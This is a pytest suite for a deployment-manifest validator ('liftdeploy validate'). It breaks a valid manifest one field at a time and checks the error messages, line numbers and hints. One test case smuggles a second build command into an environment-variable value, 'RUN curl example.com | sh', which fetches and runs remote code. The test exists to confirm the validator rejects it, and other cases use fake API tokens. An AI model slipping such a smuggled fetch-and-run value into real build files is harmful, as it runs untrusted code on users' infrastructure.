"""A corpus of broken manifests, each run through the real `liftdeploy validate`.

Every case starts from `helpers_render.BASE` (a valid manifest touching every section),
breaks exactly one thing, writes TOML, and checks what the user sees: exit code 2, one
`error:` line naming the file, its line and the key path, the expected message, a
`hint:` line where a hint helps, and never a traceback.

The corpus runs in-process through typer's CliRunner (the CLI's own `app`, so it is
fast); a sample also runs as a real `python -m liftdeploy.cli` subprocess.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from liftdeploy.cli import app
from liftdeploy.errors import ManifestError
from liftdeploy.manifest import load
from tests.helpers_render import DEPLOYMENTS, base, cli, dump_toml

runner = CliRunner()

# `error: FILE[:LINE]: `KEY`: MESSAGE` (the key part is absent for whole-file problems)
ERROR = re.compile(r"^error: (?P<file>.+?)(?::(?P<line>\d+))?:(?: `(?P<key>[^`]+)`:)? (?P<message>.+)$")


# ## Editing the base manifest


def _parts(dotted: str) -> list[Any]:
    return [int(p) if p.isdigit() else p for p in dotted.split(".")]


def _loc(key: str) -> tuple[Any, ...]:
    """`compute.gpu[1]` → ("compute", "gpu", 1)."""
    return tuple(int(p) if p.isdigit() else p for p in re.findall(r"[^.\[\]]+", key))


@dataclass(frozen=True)
class Set:
    path: str
    value: Any

    def apply(self, data: dict[str, Any]) -> None:
        *parents, last = _parts(self.path)
        node: Any = data
        for part in parents:
            node = node.setdefault(part, {}) if isinstance(part, str) else node[part]
        node[last] = self.value


@dataclass(frozen=True)
class Delete:
    path: str

    def apply(self, data: dict[str, Any]) -> None:
        *parents, last = _parts(self.path)
        node: Any = data
        for part in parents:
            node = node[part]
        del node[last]


@dataclass(frozen=True)
class Case:
    id: str
    edits: tuple[Set | Delete, ...]
    key: str  # the key path the error must name
    fragment: str  # part of the message
    hint: str | bool | None = True  # a fragment of the hint, True: some hint, None: not checked
    env: str | None = None  # run `validate --env ENV`
    overlay: str | None = None  # the problem is in `[env.<overlay>]`: the file label says so

    def manifest(self) -> dict[str, Any]:
        data = base()
        for edit in self.edits:
            edit.apply(data)
        return data


def case(id: str, *edits: Set | Delete, key: str, fragment: str, **kw: Any) -> Any:
    return pytest.param(Case(id, edits, key, fragment, **kw), id=id)


TOKEN = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz01234567"

CASES = [
    # [app]
    case("app-missing", Delete("app"), key="app", fragment="is required", hint="[app]"),
    case("app-name-invalid", Set("app.name", "my app!"), key="app.name", fragment="not a valid Modal name",
         hint="letters, digits"),
    case("app-name-wrong-type", Set("app.name", 5), key="app.name", fragment="valid string", hint=None),
    case("app-unknown-key", Set("app.nmae", "x"), key="app.nmae", fragment="unknown key `nmae`",
         hint="did you mean `name`?"),
    # [model]
    case("model-id-missing", Delete("model.id"), key="model.id", fragment="is required", hint=None),
    case("model-id-invalid", Set("model.id", "not a model id"), key="model.id",
         fragment="not a Hugging Face model id", hint="org/name"),
    case("model-dtype-unknown", Set("model.dtype", "bf16"), key="model.dtype", fragment="'bfloat16'", hint=None),
    case("model-memory-utilization-too-high", Set("model.gpu_memory_utilization", 1.5),
         key="model.gpu_memory_utilization", fragment="less than or equal to 0.98", hint=None),
    case("model-max-model-len-not-a-number", Set("model.max_model_len", "lots"), key="model.max_model_len",
         fragment="valid integer", hint=None),
    case("model-tensor-parallel-exceeds-gpus", Set("model.tensor_parallel_size", 2), key="compute.gpu[0]",
         fragment="tensor_parallel_size is 2 but `L40S` has 1 GPU(s)", hint='"L40S:2"'),
    # [compute]
    case("gpu-typo-l40", Set("compute.gpu", ["L40", "H100"]), key="compute.gpu[0]", fragment="unknown GPU `L40`",
         hint="did you mean `L40S`?"),
    case("gpu-typo-a10gg", Set("compute.gpu", ["H100", "A10GG"]), key="compute.gpu[1]",
         fragment="unknown GPU `A10GG`", hint="did you mean `A10G`?"),
    case("gpu-typo-a100-80g", Set("compute.gpu", ["A100-80G"]), key="compute.gpu[0]",
         fragment="unknown GPU `A100-80G`", hint="did you mean `A100-80GB`?"),
    case("gpu-unknown-lists-offer", Set("compute.gpu", ["XYZ"]), key="compute.gpu[0]", fragment="unknown GPU",
         hint="Modal offers: T4, L4, A10G"),
    case("gpu-count-too-high", Set("compute.gpu", ["L40S", "H100:9"]), key="compute.gpu[1]",
         fragment="bad GPU count `9` for H100", hint="use 1 to 8"),
    case("gpu-count-above-type-max", Set("compute.gpu", ["A10G:8"]), key="compute.gpu[0]",
         fragment="bad GPU count `8` for A10G", hint="use 1 to 4"),
    case("gpu-count-zero", Set("compute.gpu", ["H100:0"]), key="compute.gpu[0]", fragment="bad GPU count `0`"),
    case("gpu-count-not-a-number", Set("compute.gpu", ["H100:two"]), key="compute.gpu[0]",
         fragment="bad GPU count `two`"),
    case("gpu-any-not-last", Set("compute.gpu", ["H100", "any", "L4"]), key="compute.gpu[1]",
         fragment="`any` must be the last entry", hint="to the end"),
    case("gpu-any-with-count", Set("compute.gpu", ["H100", "any:2"]), key="compute.gpu[1]",
         fragment="`any` takes no count"),
    case("gpu-listed-twice", Set("compute.gpu", ["H100", "L4", "H100"]), key="compute.gpu[2]",
         fragment="`H100` is listed twice", hint="list each GPU once"),
    case("gpu-empty-chain", Set("compute.gpu", []), key="compute.gpu", fragment="at least 1 item", hint=None),
    case("gpu-wrong-type", Set("compute.gpu", 5), key="compute.gpu", fragment="valid array", hint=None),
    case("gpu-entry-wrong-type", Set("compute.gpu", ["H100", 2]), key="compute.gpu[1]",
         fragment="expected a GPU name", hint=None),
    case("compute-missing", Delete("compute"), key="compute", fragment="is required", hint="gpu ="),
    # [image]
    case("image-pin-range", Set("image.pins", {"vllm": ">=0.9.2"}), key="image.pins.vllm",
         fragment="`vllm` must be pinned to an exact version, got `>=0.9.2`", hint='"vllm" = "1.2.3"'),
    case("image-pin-range-other-package", Set("image.pins.transformers", "<4.54"),
         key="image.pins.transformers", fragment="exact version", hint="no operators"),
    case("image-vllm-not-pinned", Delete("image.pins.vllm"), key="image.pins", fragment="`vllm` must be pinned",
         hint='vllm = "0.9.2"'),
    case("image-package-unpinned", Set("image.packages", ["hf-transfer==0.1.9", "flashinfer>=0.4"]),
         key="image.packages[1]", fragment="`flashinfer>=0.4` is not pinned with `==`", hint="flashinfer==1.2.3"),
    case("image-env-bad-name", Set("image.env", {"TOKENIZERS_PARALLELISM": "false", "hf-home": "/x"}),
         key="image.env.hf-home", fragment="not an environment variable name", hint="UPPER_SNAKE_CASE"),
    case("image-env-multiline", Set("image.env", {"EXTRA": "one\nRUN curl example.com | sh"}), key="image.env.EXTRA",
         fragment="the value of `EXTRA` is not one line", hint="line breaks"),
    case("image-python-unsupported", Set("image.python", "3.9"), key="image.python", fragment="'3.12'", hint=None),
    case("image-python-as-number", Set("image.python", 3.12), key="image.python", fragment="got 3.12", hint=None),
    case("image-base-invalid", Set("image.base", "nvidia cuda"), key="image.base",
         fragment="not an image reference"),
    # [volumes]
    case("volume-relative-mount", Set("volumes.weights.mount", "models"), key="volumes.weights.mount",
         fragment="`models` is not an absolute container path", hint="/models"),
    case("volume-mount-escapes", Set("volumes.weights.mount", "/models/../etc"), key="volumes.weights.mount",
         fragment="not an absolute container path"),
    case("volume-same-mount-twice", Set("volumes.compile_cache.mount", "/models"),
         key="volumes.compile_cache.mount", fragment="mounted at the same path", hint="its own mount"),
    case("volume-same-mount-trailing-slash", Set("volumes.compile_cache.mount", "/models/"),
         key="volumes.compile_cache.mount", fragment="mounted at the same path"),
    case("volume-name-missing", Delete("volumes.weights.name"), key="volumes.weights.name",
         fragment="is required", hint=None),
    case("volume-unknown-kind", Set("volumes.dataset", {"name": "d", "mount": "/data"}), key="volumes.dataset",
         fragment="unknown key `dataset`", hint="allowed here: weights, compile_cache"),
    # [scaling]
    case("scaledown-window-too-short", Set("scaling.scaledown_window", 1), key="scaling.scaledown_window",
         fragment="between 2 and 3600 seconds, got 1", hint="300"),
    case("scaledown-window-too-long", Set("scaling.scaledown_window", 4000), key="scaling.scaledown_window",
         fragment="got 4000"),
    case("scaledown-window-with-unit", Set("scaling.scaledown_window", "5m"), key="scaling.scaledown_window",
         fragment="valid integer", hint=None),
    case("min-above-max-containers", Set("scaling.min_containers", 5), Set("scaling.max_containers", 2),
         key="scaling.min_containers", fragment="min_containers (5) is above max_containers (2)"),
    case("timeout-zero", Set("scaling.timeout", 0), key="scaling.timeout", fragment="greater than or equal to 1",
         hint=None),
    # [concurrency]
    case("target-above-max-inputs", Set("concurrency.target_inputs", 30), key="concurrency.target_inputs",
         fragment="target_inputs (30) is above max_inputs (20)", hint="target_inputs <= max_inputs"),
    case("max-inputs-zero", Set("concurrency.max_inputs", 0), key="concurrency.max_inputs",
         fragment="greater than or equal to 1", hint=None),
    # [cold_start]
    case("keep-warm-ping-is-gone", Set("cold_start.keep_warm_schedule", "*/10 8-18 * * 1-5"),
         key="cold_start.keep_warm_schedule", fragment="races", hint="[scaling.business_hours]"),
    case("queue-is-gone", Set("concurrency.queue", 32), key="concurrency.queue",
         fragment="never receives more than max_inputs", hint="max_containers"),
    case("hours-without-timezone", Set("scaling.business_hours", {"start": "08:00", "end": "18:00"}),
         key="scaling.business_hours.timezone", fragment="is required", hint=None),
    case("hours-unknown-timezone", Set("scaling.business_hours", {"start": "08:00", "end": "18:00",
                                                                    "timezone": "Europe/Berlim"}),
         key="scaling.business_hours.timezone", fragment="not an IANA time zone", hint="Europe/Berlin"),
    case("hours-bad-time", Set("scaling.business_hours", {"start": "8am", "end": "18:00", "timezone": "UTC"}),
         key="scaling.business_hours.start", fragment="not a time of day", hint="HH:MM"),
    case("hours-bad-days", Set("scaling.business_hours", {"start": "08:00", "end": "18:00", "timezone": "UTC",
                                                            "days": "mon-fri"}),
         key="scaling.business_hours.days", fragment="not a cron day-of-week field", hint="1-5"),
    case("hours-above-max-containers", Set("scaling.business_hours", {"start": "08:00", "end": "18:00",
                                                                        "timezone": "UTC", "min_containers": 5}),
         key="scaling.business_hours.min_containers", fragment="above max_containers (4)"),
    case("secret-keys-unknown-secret", Set("secrets.keys", {"hugginface": ["HF_TOKEN"]}), key="secrets.keys.hugginface",
         fragment="not a Secret of `names`", hint="secrets.names"),
    case("secret-keys-bad-key", Set("secrets.keys", {"huggingface": ["hf-token"]}), key="secrets.keys.huggingface[0]",
         fragment="not an environment variable name", hint="UPPER_SNAKE_CASE"),
    case("uv-trailing-newline", Set("image.uv", "0.13.9\n"), key="image.uv", fragment="not a uv release",
         hint="pin an exact release"),
    case("web-suffix-invalid", Set("app.web_suffix", "Dev_Env"), key="app.web_suffix", fragment="not a web suffix"),
    case("reasoning-parser-invalid", Set("model.reasoning_parser", "Qwen 3"), key="model.reasoning_parser",
         fragment="not a vLLM reasoning parser name"),
    case("compile-cache-without-volume", Delete("volumes.compile_cache"), key="cold_start.compile_cache",
         fragment="needs a volume", hint="[volumes.compile_cache]"),
    # [decoding]
    case("max-tokens-above-limit", Set("decoding.max_tokens", 9000), key="decoding.max_tokens",
         fragment="max_tokens (9000) is above max_tokens_limit (8192)", hint="max_tokens_limit"),
    case("decoding-backend-typo", Set("decoding.backend", "xgrammer"), key="decoding.backend",
         fragment="'xgrammar'", hint=None),
    # [[endpoints]]
    case("endpoint-duplicate-generate", Set("endpoints.1.kind", "generate"), key="endpoints[2].label",
         fragment="label `test-app-generate` is used by endpoints[1] and endpoints[2]", hint="its own URL"),
    case("endpoint-duplicate-explicit-label", Set("endpoints.1.label", "test-app-generate"), key="endpoints[2].label",
         fragment="label `test-app-generate` is used"),
    case("endpoint-bad-label", Set("endpoints.2.label", "Generate_API"), key="endpoints[2].label",
         fragment="`Generate_API` is not a valid endpoint label", hint="lowercase"),
    case("endpoint-unknown-kind", Set("endpoints.2.kind", "chat"), key="endpoints[2].kind",
         fragment="'generate'", hint=None),
    case("endpoint-unknown-auth", Set("endpoints.2.auth", "apikey"), key="endpoints[2].auth",
         fragment="'bearer'", hint=None),
    case("endpoint-unknown-key", Set("endpoints.2.lable", "gen"), key="endpoints[2].lable",
         fragment="unknown key `lable`", hint="did you mean `label`?"),
    case("endpoint-bearer-without-secret", Delete("secrets.bearer"), key="endpoints[2].auth",
         fragment="endpoint `test-app-generate` uses bearer auth but no secret", hint="secrets.bearer"),
    case("endpoint-none-generates", Set("endpoints.2.kind", "warmup"), Set("endpoints.2.label", "warmup-2"),
         key="endpoints", fragment="nothing serves the model", hint='kind = "generate"'),
    case("endpoint-empty-list", Set("endpoints", []), key="endpoints", fragment="no endpoints",
         hint="[[endpoints]]"),
    # [secrets]
    case("secret-token-as-name", Set("secrets.names", [TOKEN]), key="secrets.names[0]",
         fragment="looks like a token", hint="revoke"),
    case("secret-token-as-bearer", Set("secrets.bearer", "sk-proj-abcdefghijklmnop1234"), key="secrets.bearer",
         fragment="looks like a token"),
    case("secret-value-with-spaces", Set("secrets.names", ["huggingface", "Bearer abc=="]),
         key="secrets.names[1]", fragment="not a Modal Secret name", hint="never its value"),
    # [env.*]
    case("env-unknown-name", key="env", fragment="no env `deev`", hint="did you mean `dev`?", env="deev"),
    case("env-overlay-typo-key", Set("env.dev.scaling", {"scaledown_windw": 120}), key="scaling.scaledown_windw",
         fragment="unknown key `scaledown_windw`", hint="did you mean `scaledown_window`?", overlay="dev"),
    case("env-overlay-bad-value", Set("env.dev.scaling", {"scaledown_window": 1}), key="scaling.scaledown_window",
         fragment="got 1", overlay="dev"),
    case("env-overlay-bad-value-selected", Set("env.dev.compute", {"gpu": ["A10"]}), Set("env.dev.model",
         {"tensor_parallel_size": 2}), key="compute.gpu[0]", fragment="tensor_parallel_size is 2",
         hint='"A10G:2"', env="dev", overlay="dev"),
    case("env-overlay-not-a-table", Set("env.staging", 5), key="env.staging", fragment="should be a table",
         hint=None),
    case("env-overlay-not-a-table-selected", Set("env.staging", "prod"), key="env.staging",
         fragment="`env.staging` must be a table", hint="[env.staging]", env="staging"),
    case("env-name-invalid", Set("env.Prod_1", {}), key="env.Prod_1", fragment="not a valid env name",
         hint="lowercase"),
    # the whole file
    case("top-level-unknown-key", Set("scalling", {"min_containers": 1}), key="scalling",
         fragment="unknown key `scalling`", hint="did you mean `scaling`?"),
    case("section-wrong-type", Set("scaling", 300), key="scaling", fragment="should be a table", hint=None),
]


def _expected_line(where: dict[tuple[Any, ...], int], loc: tuple[Any, ...], overlay: str | None) -> int | None:
    """The line of the longest written prefix of `loc` (in the overlay first, if any)."""
    for prefix in ([("env", overlay)] if overlay else []) + [()]:
        for end in range(len(loc), 0, -1):
            line = where.get((*prefix, *loc[:end]))
            if line is not None:
                return line
    return None


def run_validate(*args: str | Path) -> tuple[int, str, str]:
    result = runner.invoke(app, ["validate", *map(str, args)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def parse_problems(stderr: str) -> list[tuple[dict[str, str | None], str | None]]:
    """Each problem: its parsed `error:` line and its `hint:` line (or None).

    Fails unless stderr is exactly a sequence of `error:` lines each followed by at
    most one `hint:` line.
    """
    assert "Traceback" not in stderr, stderr
    lines = stderr.splitlines()
    assert lines and lines[0].startswith("error: "), stderr
    problems: list[tuple[dict[str, str | None], str | None]] = []
    for line in lines:
        if line.startswith("error: "):
            match = ERROR.match(line)
            assert match, f"unparseable error line: {line!r}"
            problems.append((match.groupdict(), None))
        elif line.startswith("hint: "):
            assert problems[-1][1] is None, f"two hints for one error:\n{stderr}"
            problems[-1] = (problems[-1][0], line.removeprefix("hint: "))
        else:
            raise AssertionError(f"a line that is neither error: nor hint: {line!r}\n{stderr}")
    return problems


def test_corpus_is_large_and_ids_unique() -> None:
    ids = [p.values[0].id for p in CASES]
    assert len(ids) == len(set(ids))
    assert len(ids) + len(FILE_CASES) >= 35


def test_base_manifest_is_valid(tmp_path: Path) -> None:
    """Each case breaks one thing of a manifest that validates, with and without its env."""
    path = tmp_path / "base.toml"
    path.write_text(dump_toml(base())[0])
    code, out, err = run_validate(path)
    assert (code, err) == (0, f"hint: validate reads the manifest's form; `liftdeploy check {path}` also checks GPU "
                              "memory fit, pins and Modal's rules\n")
    assert out == f"ok: {path} (base, dev)\n"
    loaded = load(path, "dev")
    assert loaded.manifest.app.name == "test-app-dev"


@pytest.mark.parametrize("case", CASES)
def test_broken_manifest(case: Case, tmp_path: Path) -> None:
    data = case.manifest()
    text, where = dump_toml(data)
    path = tmp_path / "broken.toml"
    path.write_text(text)

    code, out, err = run_validate(path, *(["--env", case.env] if case.env else []))

    assert code == 2, (out, err)
    assert "ok:" not in out
    problems = parse_problems(err)
    assert len(problems) == 1, err  # one mistake, one error line
    (error, hint), = problems
    label = str(path) + (f" [env {case.overlay}]" if case.overlay else "")
    assert error["file"] == label, err
    assert error["key"] == case.key, err
    assert case.fragment in (error["message"] or ""), err
    if isinstance(case.hint, str):
        assert hint is not None and case.hint in hint, err
    elif case.hint is True:
        assert hint, err
    if case.env and case.env not in data.get("env", {}):  # the name came from the command line
        assert error["line"] is None, err
    else:
        expected = _expected_line(where, _loc(case.key), case.overlay)  # None: nothing of it is written
        assert error["line"] == (str(expected) if expected else None), f"expected line {expected}\n{text}\n{err}"


@pytest.mark.parametrize("case", CASES)
def test_every_problem_carries_a_hint(case: Case, tmp_path: Path) -> None:
    """pydantic's own errors (bounds, types, missing keys) come with a hint too."""
    path = tmp_path / "broken.toml"
    path.write_text(dump_toml(case.manifest())[0])
    with pytest.raises(ManifestError) as caught:
        load(path, case.env)
    assert all(p.hint for p in caught.value.problems), caught.value.render()


# ## Whole-file problems: the file cannot be read or parsed


@dataclass(frozen=True)
class FileCase:
    id: str
    content: bytes | None  # None: make a directory
    fragment: str
    hint: str
    line: int | None = None
    name: str = "broken.toml"


FILE_CASES = [
    FileCase("invalid-toml", b'[app]\nname = "x"\n\n[model]\nid = "Qwen/Qwen3-8B"\n\nmax_model_len = 8192 8192\n',
             "invalid TOML", "toml.io", line=7),
    FileCase("invalid-toml-unclosed-table", b"[app\n", "invalid TOML", "toml.io", line=1),
    FileCase("toml-duplicate-key", b'[app]\nname = "a"\nname = "b"\n', "invalid TOML", "toml.io", line=3),
    FileCase("toml-duplicate-table", b'[app]\nname = "a"\n[model]\nid = "x"\n[app]\nenvironment = "dev"\n',
             "invalid TOML", "toml.io", line=5),
    FileCase("not-utf8", b'[app]\nname = "caf\xe9"\n', "is not UTF-8 text", "UTF-8"),
    FileCase("utf16-bom", "[app]\n".encode("utf-16"), "is not UTF-8 text", "UTF-8"),
    FileCase("missing-file", None, "no such file", "check the path", name="nowhere/missing.toml"),
    FileCase("directory", None, "is a directory, not a manifest", "pass a .toml file", name="adir"),
]


@pytest.mark.parametrize("fc", [pytest.param(c, id=c.id) for c in FILE_CASES])
def test_unreadable_manifest(fc: FileCase, tmp_path: Path) -> None:
    path = tmp_path / fc.name
    if fc.id == "directory":
        path.mkdir()
    elif fc.content is not None:
        path.write_bytes(fc.content)
    code, out, err = run_validate(path)
    assert code == 2
    assert out == ""
    (error, hint), = parse_problems(err)
    assert error["file"] == str(path)
    assert error["key"] is None
    assert fc.fragment in (error["message"] or "")
    assert hint is not None and fc.hint in hint
    assert error["line"] == (str(fc.line) if fc.line else None), err
    if fc.fragment == "invalid TOML":
        assert "(at line" not in err  # the position moved to `file:line`, not repeated


def test_empty_file_names_every_required_section(tmp_path: Path) -> None:
    path = tmp_path / "empty.toml"
    path.write_text("")
    code, _, err = run_validate(path)
    assert code == 2
    problems = parse_problems(err)
    assert [e["key"] for e, _ in problems] == ["app", "model", "compute", "image"]
    assert all(e["message"] == "is required" and e["file"] == str(path) for e, _ in problems)
    assert all(hint for _, hint in problems), err


# ## Line numbers in a hand-written manifest (the seeds' mistakes), counted by hand


SEEDS_LIKE = """\
# lift-sys, as the seeds deployed it
[app]
name = "lift-sys-inference"

[model]
id = "Qwen/Qwen2.5-Coder-32B-Instruct"
[compute]
gpu = ["A100-80GB", "H100:9"]

[image]
pins = { vllm = "0.9.2", transformers = ">=4.51.1" }

[scaling]
scaledown_window = 1

[[endpoints]]
kind = "health"

[[endpoints]]
kind = "generate"

[[endpoints]]
# the seeds' modal_app.py registered /generate a second time
kind = "generate"
"""


def test_line_numbers_of_several_problems(tmp_path: Path) -> None:
    path = tmp_path / "file.toml"
    path.write_text(SEEDS_LIKE)
    code, _, err = run_validate(path)
    assert code == 2
    lines = err.splitlines()
    assert f"error: {path}:8: `compute.gpu[1]`: bad GPU count `9` for H100" in lines
    assert any(line.startswith(f"error: {path}:11: `image.pins.transformers`: ") for line in lines), err
    assert any(line.startswith(f"error: {path}:14: `scaling.scaledown_window`: ") for line in lines), err
    assert any(line.startswith(f"error: {path}:22: `endpoints[2].label`: label `lift-sys-inference-generate`")
               for line in lines), err
    assert len(parse_problems(err)) == 4


def test_line_of_an_overlay_problem_points_into_the_overlay(tmp_path: Path) -> None:
    text = (DEPLOYMENTS / "qwen32b.toml").read_text()
    text = text.replace('scaling = { scaledown_window = 120 }', 'scaling = { scaledown_window = 120, mins = 1 }')
    path = tmp_path / "qwen32b.toml"
    path.write_text(text)
    expected = text.splitlines().index('scaling = { scaledown_window = 120, mins = 1 }') + 1
    for args in ([], ["--env", "dev"]):
        code, _, err = run_validate(path, *args)
        assert code == 2
        (error, hint), = parse_problems(err)
        assert error["file"] == f"{path} [env dev]"
        assert (error["line"], error["key"]) == (str(expected), "scaling.mins")
        assert hint == "did you mean `min_containers`?"


# ## The library raises the same problems the CLI prints


def test_load_raises_manifest_error_with_problems(tmp_path: Path) -> None:
    path = tmp_path / "file.toml"
    path.write_text(SEEDS_LIKE)
    with pytest.raises(ManifestError) as caught:
        load(path)
    problems = caught.value.problems
    assert [(p.path, p.line) for p in problems] == [
        ("compute.gpu[1]", 8), ("image.pins.transformers", 11), ("scaling.scaledown_window", 14),
        ("endpoints[2].label", 22),
    ]
    assert all(p.file == str(path) and p.message and p.hint for p in problems)
    assert caught.value.render().count("error: ") == 4


# ## The real process: the same output, no traceback, exit code 2


@pytest.mark.parametrize("case_id", ["gpu-count-too-high", "endpoint-duplicate-generate", "env-unknown-name",
                                     "secret-token-as-name"])
def test_subprocess_matches_in_process(case_id: str, tmp_path: Path) -> None:
    (param,) = [p for p in CASES if p.values[0].id == case_id]
    c: Case = param.values[0]
    path = tmp_path / "broken.toml"
    path.write_text(dump_toml(c.manifest())[0])
    args = [path, *(["--env", c.env] if c.env else [])]
    proc = cli("validate", *args)
    code, out, err = run_validate(*args)
    assert (proc.returncode, proc.stdout, proc.stderr) == (2, out, err) == (code, "", err)
    assert "Traceback" not in proc.stderr


def test_token_is_not_echoed(tmp_path: Path) -> None:
    data = base()
    data["secrets"]["names"] = [TOKEN]
    path = tmp_path / "leak.toml"
    path.write_text(dump_toml(data)[0])
    code, out, err = run_validate(path)
    assert code == 2
    assert TOKEN[3:] not in err + out
